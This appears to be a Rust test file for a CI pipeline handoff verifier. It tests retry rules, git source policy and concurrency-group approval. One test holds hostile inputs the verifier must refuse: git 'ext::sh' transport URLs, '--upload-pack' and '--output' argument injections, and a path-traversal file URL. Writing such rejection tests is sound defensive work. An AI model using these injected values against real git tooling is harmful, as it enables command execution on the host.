        assert_eq!((run, stage), (RUN, "Deploy"));
        prior
    };
    verify_offer(
        Unverified::new(sign_offer(by, offer)),
        &VerifyContext::new(trust, ops_org(), &names).with_prior(&prior),
        NOW,
    )
}

#[test]
fn a_retry_from_the_origin_runs_as_the_next_attempt() {
    use otto_handoff::rules::Prior;
    let world = World::new();
    let mut offer = world.offer();
    offer.attempt = 2;
    offer.retry = Some(world.retry(&world.dev, "Deploy", 2));
    let trust = world.ops_trust();
    // Refused before (nothing here), or failed here as attempt 1: attempt 2 runs.
    for prior in [
        Prior::default(),
        Prior {
            last_attempt: Some(1),
            succeeded: false,
        },
    ] {
        let accepted = check_prior(&trust, &world.dev, &offer, prior).unwrap();
        assert_eq!(accepted.offer().attempt, 2);
    }
}

#[test]
fn a_stage_that_succeeded_here_never_runs_again() {
    use otto_handoff::rules::Prior;
    let world = World::new();
    let trust = world.ops_trust();
    let succeeded = Prior {
        last_attempt: Some(1),
        succeeded: true,
    };
    for attempt in [1, 2, 7] {
        let mut offer = world.offer();
        offer.attempt = attempt;
        rejected(
            check_prior(&trust, &world.dev, &offer, succeeded),
            RejectCode::AttemptRefused,
            "already succeeded here",
        );
    }
}

#[test]
fn an_attempt_not_above_the_last_one_begun_here_is_refused() {
    use otto_handoff::rules::Prior;
    let world = World::new();
    let trust = world.ops_trust();
    // The same stage offered again under a new handoff id, as attempt 1 again.
    let offer = world.offer();
    rejected(
        check_prior(
            &trust,
            &world.dev,
            &offer,
            Prior {
                last_attempt: Some(1),
                succeeded: false,
            },
        ),
        RejectCode::AttemptRefused,
        "not above attempt 1",
    );
    let mut zero = world.offer();
    zero.attempt = 0;
    rejected(
        check_prior(&trust, &world.dev, &zero, Prior::default()),
        RejectCode::Malformed,
        "attempt is 0",
    );
}

#[test]
fn only_the_org_that_started_the_run_offers_a_retry() {
    use otto_handoff::rules::Prior;
    let world = World::new();
    // qa may ask ops for the stage as dev may: scope and definition would let it.
    let mut trust = world.ops_trust();
    trust.set_policy("qa", World::policy()).unwrap();
    let mut offer = world.offer();
    offer.sender = world.qa.cert.clone();
    offer.attempt = 2;
    let failed = Prior {
        last_attempt: Some(1),
        succeeded: false,
    };
    // On its own word: no retry, or one it signed itself.
    let rejection = rejected(
        check_prior(&trust, &world.qa, &offer, failed),
        RejectCode::AttemptRefused,
        "carries no retry signed by the node that started run",
    );
    assert!(rejection.hint.unwrap().contains("otto retry"));
    offer.retry = Some(world.retry(&world.qa, "Deploy", 2));
    rejected(
        check_prior(&trust, &world.qa, &offer, failed),
        RejectCode::AttemptRefused,
        "only the node of org \"dev\" that started run",
    );
    // Its first attempt is no retry: refused later, for the chain it cannot sign.
    offer.attempt = 1;
    offer.retry = None;
    let first = check_prior(&trust, &world.qa, &offer, Prior::default());
    assert_ne!(first.unwrap_err().code, RejectCode::AttemptRefused);
}

#[test]
fn a_retry_comes_from_the_origin_node_itself_when_the_plan_names_it() {
    use otto_handoff::rules::Prior;
    let mut world = World::new();
    let dev_key = world.dev.key.public_key().keyid();
    world
        .plan
        .body
        .owners
        .get_mut(otto_pipeline::plan::ORIGIN)
        .unwrap()
        .node = Some(dev_key);
    // Another node of the origin's org is not the origin.
    let mut offer = world.offer();
    offer.sender = world.builder.cert.clone();
    offer.certificates = vec![world.dev.cert.clone()];
    offer.attempt = 2;
    offer.retry = Some(world.retry(&world.builder, "Deploy", 2));
    rejected(
        check_prior(&world.ops_trust(), &world.builder, &offer, Prior::default()),
        RejectCode::AttemptRefused,
        "only the node of org",
    );
    // The origin node's retry, sent by the other node, passes check 12b (this plan's
    // chain, whose Build the builder signed, is refused later).
    offer.retry = Some(world.retry(&world.dev, "Deploy", 2));
    let later = check_prior(&world.ops_trust(), &world.builder, &offer, Prior::default());
    assert_ne!(later.unwrap_err().code, RejectCode::AttemptRefused);
}

const COMMIT: &str = "9fceb02d0ae598e95dc970b74767f19372d61af8";
const REPO: &str = "https://git.example/acme/webapp.git";

/// A world whose plan was made for [`COMMIT`].
fn git_world() -> World {
    let mut world = World::new();
    world.plan.body.facts.commit = Some(COMMIT.to_owned());
    world
}

fn git_offer(world: &World, url: &str, commit: &str, bundle: bool) -> Offer {
    Offer {
        source: otto_protocol::RunSource::Git {
            url: url.to_owned(),
            commit: commit.to_owned(),
            bundle: bundle.then(|| otto_protocol::GitBundle {
                sha256: sha256(b"a bundle"),
                size: 4096,
            }),
        },
        ..world.offer()
    }
}

#[test]
fn a_git_source_comes_as_a_bundle_unless_the_policy_lists_the_repository() {
    use otto_handoff::source::Obtain;
    let world = git_world();
    let bundled = check(&world, &git_offer(&world, REPO, COMMIT, true)).unwrap();
    assert_eq!(
        bundled.obtain(),
        &Obtain::Bundle {
            url: REPO.to_owned(),
            commit: COMMIT.to_owned(),
            bundle: otto_protocol::GitBundle {
                sha256: sha256(b"a bundle"),
                size: 4096,
            },
        }
    );
    // No bundle and no policy listing the repository: no way to get the commit.
    let rejection = rejected(
        check(&world, &git_offer(&world, REPO, COMMIT, false)),
        RejectCode::SourceRefused,
        "carries no bundle of commit 9fceb02d",
    );
    let hint = rejection.hint.unwrap_or_default();
    assert!(
        hint.contains("otto-node trust policy dev --repos"),
        "{hint}"
    );
    // The policy lists it: the owner fetches it itself, bundle or not.
    let mut trust = world.ops_trust();
    trust
        .set_policy(
            "dev",
            otto_trust::Policy {
                repos: vec![REPO.to_owned()],
                ..World::policy()
            },
        )
        .unwrap();
    for bundle in [false, true] {
        let accepted = check_with(
            &world,
            &trust,
            &git_offer(&world, REPO, COMMIT, bundle),
            NOW,
        )
        .unwrap();
        assert_eq!(
            accepted.obtain(),
            &Obtain::Fetch {
                url: REPO.to_owned(),
                commit: COMMIT.to_owned()
            }
        );
    }
    // Only that exact URL.
    let other = "https://git.example/acme/webapp-fork.git";
    rejected(
        check_with(
            &world,
            &trust,
            &git_offer(&world, other, COMMIT, false),
            NOW,
        ),
        RejectCode::SourceRefused,
        "does not list https://git.example/acme/webapp-fork.git",
    );
    // A snapshot source is fetched from the sender, as before.
    assert!(matches!(
        check(&world, &world.offer()).unwrap().obtain(),
        Obtain::Snapshot { .. }
    ));
}

#[test]
fn a_hostile_repository_or_commit_is_refused_before_anything_is_fetched() {
    let world = git_world();
    let mut listing = world.ops_trust();
    for (url, why) in [
        ("ext::sh -c touch% /tmp/pwned", "spaces"),
        ("ext::sh", "transport helpers"),
        ("--upload-pack=/tmp/x", "start with '-'"),
        ("file:///srv/git/../../var/lib/otto", "`..`"),
        ("ftp://example.com/app.git", "scheme `ftp`"),
        ("app.git", "give a URL"),
    ] {
        // Refused even when the policy (wrongly) lists it, bundle or not.
        listing
            .set_policy(
                "dev",
                otto_trust::Policy {
                    repos: vec![url.to_owned()],
                    ..World::policy()
                },
            )
            .unwrap();
        for bundle in [false, true] {
            let offer = git_offer(&world, url, COMMIT, bundle);
            let rejection = rejected(
                check_with(&world, &listing, &offer, NOW),
                RejectCode::SourceRefused,
                why,
            );
            assert!(
                rejection.message.contains("repository URL"),
                "{rejection:?}"
            );
        }
    }
    for commit in [
        "HEAD",
        "main",
        "9fceb02",
        "--output=/tmp/x",
        &COMMIT.to_uppercase(),
    ] {
        rejected(
            check(&world, &git_offer(&world, REPO, commit, true)),
            RejectCode::SourceRefused,
            "not a full commit id",
        );
    }
    // A commit other than the one the plan (and so the chain) was made for.
    let other = "0123456789abcdef0123456789abcdef01234567";
    rejected(
        check(&world, &git_offer(&world, REPO, other, true)),
        RejectCode::SourceRefused,
        "plan was made for commit \"9fceb02d0ae598e95dc970b74767f19372d61af8\"",
    );
}

/// Issue #14, item 4: a peer whose deploy steps the owner approved cannot put them in the
/// owner's concurrency group (to queue behind, or with `cancel_in_progress` cancel, the
/// owner's own deploys) without a new approval: the group is part of the definition.
#[test]
fn a_concurrency_group_the_owner_did_not_approve_is_refused() {
    let approved = World::new();
    let trust = approved.ops_trust();
    check_with(&approved, &trust, &approved.offer(), NOW).unwrap();
    for cancel_in_progress in [false, true] {
        let mut world = World::new();
        world
            .plan
            .body
            .stages
            .iter_mut()
            .find(|s| s.id == "Deploy")
            .unwrap()
            .concurrency = Some(otto_pipeline::plan::Concurrency {
            group: "deploy-production".to_owned(),
            cancel_in_progress,
        });
        // Ops approved the steps without a group (the digest `approved` has).
        let mut trust = world.ops_trust();
        assert!(trust.unapprove(&world.deploy_digest()));
        trust.approve(&approved.deploy_digest(), NOW);
        rejected(
            check_with(&world, &trust, &world.offer(), NOW),
            RejectCode::DefinitionNotApproved,
            &world.deploy_digest(),
        );
        // Approving the stage with its group lets it in.
        trust.approve(&world.deploy_digest(), NOW);
        check_with(&world, &trust, &world.offer(), NOW).unwrap();
    }
}
